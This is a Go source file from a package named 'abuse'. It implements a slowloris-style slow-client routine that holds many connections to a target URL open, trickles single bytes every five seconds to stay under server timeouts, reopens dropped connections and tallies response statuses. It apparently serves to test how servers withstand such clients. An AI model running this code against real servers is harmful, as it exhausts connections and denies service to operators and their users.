package abuse

import (
	"fmt"
	"maps"
	"net"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// trickleEvery is the pause between two bytes of a slow client: shorter than every
// timeout for silence.
const trickleEvery = 5 * time.Second

// beSlow keeps so many connections open: each sends something, then single bytes, and
// reads single bytes. One that the server closes is opened again.
func beSlow(o order, end <-chan struct{}) told {
	var all sync.WaitGroup
	var connected atomic.Int64
	for i := range o.Count {
		all.Go(func() {
			for {
				select {
				case <-end:
					return
				default:
				}
				if !crawl(o, i, end, &connected) {
					time.Sleep(100 * time.Millisecond)
				}
			}
		})
	}
	all.Wait()
	return told{Connected: int(connected.Load())}
}

// crawl uses one connection until it ends, and reports whether there was one.
func crawl(o order, who int, end <-chan struct{}, connected *atomic.Int64) bool {
	u, err := url.Parse(o.URL)
	if err != nil {
		return false
	}
	conn, err := dialer(o.From).Dial("tcp", u.Host)
	if err != nil {
		return false
	}
	defer conn.Close()
	_ = conn.(*net.TCPConn).SetReadBuffer(1 << 10)
	if _, err := fmt.Fprint(conn, o.Send[who%len(o.Send)]+strings.Repeat(o.Trickle, o.Fill)); err != nil {
		return false
	}
	connected.Add(1)
	one := make([]byte, 1)
	for i := 0; ; i++ {
		select {
		case <-end:
			return true
		case <-time.After(trickleEvery):
		}
		if o.Trickle == "" {
			_ = conn.SetReadDeadline(time.Now().Add(time.Minute))
			_, err = conn.Read(one)
		} else {
			_, err = fmt.Fprint(conn, o.Trickle[i%len(o.Trickle):i%len(o.Trickle)+1])
		}
		if err != nil {
			return true
		}
	}
}

// statuses tells how often each status came.
func statuses(all map[string]int) string {
	var words []string
	for _, status := range slices.Sorted(maps.Keys(all)) {
		words = append(words, fmt.Sprintf("%d × %s", all[status], status))
	}
	return strings.Join(words, ", ")
}
